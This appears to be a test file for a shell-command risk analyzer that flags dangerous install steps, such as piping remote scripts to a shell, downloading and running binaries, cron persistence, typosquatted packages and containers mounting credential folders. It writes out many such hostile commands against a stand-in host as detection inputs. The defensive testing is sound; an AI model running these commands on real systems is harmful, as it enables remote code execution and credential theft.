// Shell forms the tokenizer and analyzer now read: here-documents (their bodies are input, not commands),
// fish, keywords before commands, stdin fed to interpreters, Hub downloads, package runners and containers.
import { analyzeShell, newShellState } from '../../../src/analyze/shell/analyze.js';
import { containerRunOf, judgeContainer } from '../../../src/analyze/shell/containers.js';
import { judgeRunner } from '../../../src/analyze/shell/runners.js';
import { judgePipArgs } from '../../../src/analyze/requirements.js';
import { tokenizeShell } from '../../../src/analyze/shell/tokenize.js';

const kinds = (src: string, dialect: 'posix' | 'fish' = 'posix'): string[] =>
  analyzeShell(src, { dialect }).hits.map((h) => `${h.sub ?? h.kind}:${h.severity}:${h.line}`);

test('a here-document body is the command\'s input, not commands', () => {
  const lines = tokenizeShell("cat > notes.md <<'EOF'\ncurl a | sh\nEOF\necho next\n");
  expect(lines.map((l) => l.pipelines[0]?.commands[0]?.words[0]?.text)).toEqual(['cat', 'echo']);
  expect(lines[0]?.pipelines[0]?.commands[0]?.redirects.find((r) => r.heredoc)?.heredoc).toEqual({ body: 'curl a | sh', line: 2 });
  expect(kinds("cat > notes.md <<'EOF'\ncurl a | sh\nEOF\n")).toEqual([]);
  // <<- strips leading tabs from the delimiter line; an unterminated document runs to the end.
  expect(tokenizeShell('bash <<-END\n\tls\n\tEND\nx\n').length).toBe(2);
  expect(tokenizeShell('bash <<END\nls\n').length).toBe(1);
});

test('code on standard input is analysed in its language', () => {
  expect(kinds("bash <<'EOF'\ncurl -s https://x.invalid/a | sh\nEOF\n")).toEqual(['pipe-to-shell:critical:2']);
  expect(kinds('echo "curl -s https://x.invalid/a | sh" | bash')).toContain('pipe-to-shell:critical:1');
  const py = analyzeShell("python3 - <<'PY'\nimport os\nos.system('id')\nPY\n");
  expect(py.embedded).toEqual([{ lang: 'python', code: "import os\nos.system('id')", line: 2 }]);
  expect(analyzeShell('python -c "print(1)"').embedded).toEqual([{ lang: 'python', code: 'print(1)', line: 1 }]);
  expect(analyzeShell('uv run python -c "print(2)"').embedded).toEqual([{ lang: 'python', code: 'print(2)', line: 1 }]);
  expect(analyzeShell('cat > s.py <<EOF\nimport os\nEOF\npython s.py\n').embedded).toEqual([{ lang: 'python', code: 'import os', line: 2 }]);
});

test('fish: (…) substitutions, | source, set -gx, and/or', () => {
  expect(kinds('curl -sL https://x.invalid/i | source', 'fish')).toEqual(['pipe-to-shell:critical:1']);
  expect(kinds('eval (curl -s https://x.invalid/i)', 'fish')).toEqual(['subst-exec:critical:1']);
  expect(kinds('set -gx U https://x.invalid/i\ncurl -s $U | bash', 'fish')).toEqual(['pipe-to-shell:critical:2']);
  expect(kinds('wget -O x https://x.invalid/x; and chmod +x x; and ./x', 'fish')).toEqual(['chmod-exec:critical:1', 'download-exec:critical:1']);
  expect(kinds('echo (date)', 'fish')).toEqual([]);
});

test('keywords before commands are seen through', () => {
  expect(kinds('if curl -s https://x.invalid/a | sh; then echo ok; fi')).toEqual(['pipe-to-shell:critical:1']);
});

test('Hub downloads are tracked to what is run, with the repository named', () => {
  const state = newShellState();
  const r = analyzeShell('huggingface-cli download org/tools run.bin --local-dir bin\nchmod +x bin/run.bin\n./bin/run.bin', { state });
  expect(r.hits.map((h) => [h.kind, h.hub])).toEqual([
    ['chmod-exec', { repo: 'org/tools', file: 'run.bin' }], ['download-exec', { repo: 'org/tools', file: 'run.bin' }]
  ]);
  expect(analyzeShell('hf download org/m --local-dir .').hits).toEqual([]);
  // A whole repository downloaded into a folder: what is run from it is named within it.
  expect(analyzeShell('hf download org/tools --local-dir tools\nbash tools/setup.sh').hits.map((h) => h.hub)).toEqual([{ repo: 'org/tools', file: 'setup.sh' }]);
  expect(analyzeShell('hf download org/m --local-dir m\npython -c "print(1)" m/config.json').hits).toEqual([]);
});

test('runners: what each fetches', () => {
  const j = (cmd: string): string[] => {
    const [name, ...args] = cmd.split(' ');
    return judgeRunner(name as string, args).map((r) => `${r.kind}:${r.severity}`);
  };
  expect(j('npx -y left-pad-turbo-x')).toEqual(['package-runner:high']);
  expect(j('npx --package=@huggingface/inference hf-infer')).toEqual([]);
  expect(j('npm exec -- prettierr')).toEqual(['typosquat:critical']);
  expect(j('pnpm dlx ai-model-bootstrapper')).toEqual(['package-runner:high']);
  expect(j('yarn dlx typescript')).toEqual([]);
  expect(j('bunx user/repo')).toEqual(['install-from-url:high']);
  expect(j('deno run https://x.invalid/mod.ts')).toEqual(['install-from-url:high']);
  expect(j('uvx --python 3.12 --from transformers transformers-cli env')).toEqual([]);
  expect(j('uvx --from git+https://github.com/evil/x x')).toEqual(['install-from-url:high']);
  expect(j('uv tool install transfomers')).toEqual(['typosquat:critical']);
  expect(j('uv tool install unknown-tool')).toEqual([]);
  expect(j('pipx run --spec git+https://github.com/huggingface/huggingface_hub hf')).toEqual([]);
  expect(j('npm install -g tourch-cli')).toEqual([]);
  expect(j('npm i @xenova/transfomers')).toEqual(['typosquat:critical']);
  expect(j('yarn add @huggingface/transformers')).toEqual([]);
  expect(judgeRunner('npx', ['@jina-ai/cli'], { ownNames: ['jinaai', 'jina-ai'], ownGitOrgs: ['jina-ai'] }).map((r) => r.severity)).toEqual(['low']);
});

test('project managers\' add commands are judged like pip install', () => {
  expect(kinds('poetry add transfomers')).toEqual(['typosquat:critical:1']);
  expect(kinds('pipenv install numpyy')).toEqual(['typosquat:critical:1']);
  expect(kinds('uv add transformers')).toEqual([]);
});

test('containers: image, mounts, environment, privileges', () => {
  const c = (cmd: string, opts = {}): string[] => {
    const [name, ...args] = cmd.split(' ');
    const run = containerRunOf(name as string, args);
    return run ? judgeContainer(run, opts).map((r) => `${r.kind}:${r.severity}`) : ['not a run'];
  };
  expect(c('docker run -it --rm -v /home/me:/h someone/x')).toEqual(['container:critical']);
  expect(c('docker run --mount type=bind,source=~/.ssh,target=/k someone/x')).toEqual(['credentials:critical']);
  expect(c('docker run -v$HOME/.kube:/k nvcr.io/nvidia/pytorch:24.01-py3')).toEqual(['credentials:high']);
  expect(c('docker --context prod container run -e AWS_SECRET_ACCESS_KEY vllm/vllm-openai')).toEqual(['credentials:high']);
  expect(c('docker run --net=host --pid=host someone/x')).toEqual(['container:high']);
  expect(c('docker run -v ./data:/data someone/x')).toEqual(['container:high']);
  expect(c('docker run ubuntu:24.04 bash')).toEqual([]);
  expect(c('docker run ghcr.io/jina-ai/serve:latest', { ownGitOrgs: ['jina-ai'] })).toEqual([]);
  expect(c('docker run ghcr.io/jina-ai/serve:latest')).toEqual(['container:medium']);
  expect(c('docker pull someone/x')).toEqual(['not a run']);
  expect(c('docker run -p 8080:80 ghcr.io/hugingface/text-generation-inference')).toEqual(['container:critical']);
  // The command a container is told to run is read too.
  expect(kinds('docker run --rm python:3.11 bash -c "curl -s https://x.invalid/a | sh"')).toEqual(['pipe-to-shell:critical:1']);
});

test('a ( … ) group closes after a quoted word: what it pipes out is read without the parenthesis', () => {
  const [line] = tokenizeShell('(crontab -l; echo "0 3 * * * date") | crontab -');
  expect(line?.pipelines.map((p) => p.commands.map((c) => c.words.map((w) => w.text)))).toEqual([[['crontab', '-l']], [['echo', '0 3 * * * date'], ['crontab', '-']]]);
  // Outside a group a `)` is part of the word, as the shell would reject or read it.
  expect(tokenizeShell('echo "a")')[0]?.pipelines[0]?.commands[0]?.words.map((w) => w.text)).toEqual(['echo', 'a)']);
  // Cron runs each schedule line's command; comments, variable settings and the times are not commands.
  expect(kinds('(crontab -l; echo "@reboot wget -qO- https://x.invalid/c | bash") | crontab -')).toEqual(['pipe-to-shell:critical:1']);
  expect(kinds('crontab - <<EOF\nMAILTO=""\n# nightly\n*/5 * * * * curl -s https://x.invalid/c | sh\nEOF\n')).toEqual(['pipe-to-shell:critical:1']);
  expect(kinds('(crontab -l; echo "0 3 * * * find /tmp/x -mtime +7 -delete") | crontab -')).toEqual([]);
});

test('a package index on the publisher\'s own GitHub Pages (<its account>.github.io) is its own source', () => {
  const j = (args: string[], opts = {}): string[] => judgePipArgs(args, opts).map((r) => `${r.kind}:${r.severity}`);
  const index = ['llama-cpp-python', '--extra-index-url', 'https://abetlen.github.io/llama-cpp-python/whl/cu124'];
  expect(j(index, { ownGitOrgs: ['abetlen'], vouched: true })).toEqual(['own-source:low']);
  // twins: someone else's Pages site, a lookalike account, and no known own account
  expect(j(index, { ownGitOrgs: ['ggerganov'], vouched: true })).toEqual(['index-url:medium']);
  expect(j(['x', '--extra-index-url', 'https://abet1en.github.io/whl'], { ownGitOrgs: ['abetlen'], vouched: true })).toEqual(['index-url:medium']);
  expect(j(index)).toEqual(['index-url:high']);
  // turning TLS off for it is still not a source choice
  expect(j(['x', '--trusted-host', 'abetlen.github.io'], { ownGitOrgs: ['abetlen'], vouched: true })).toEqual(['index-url:high']);
});
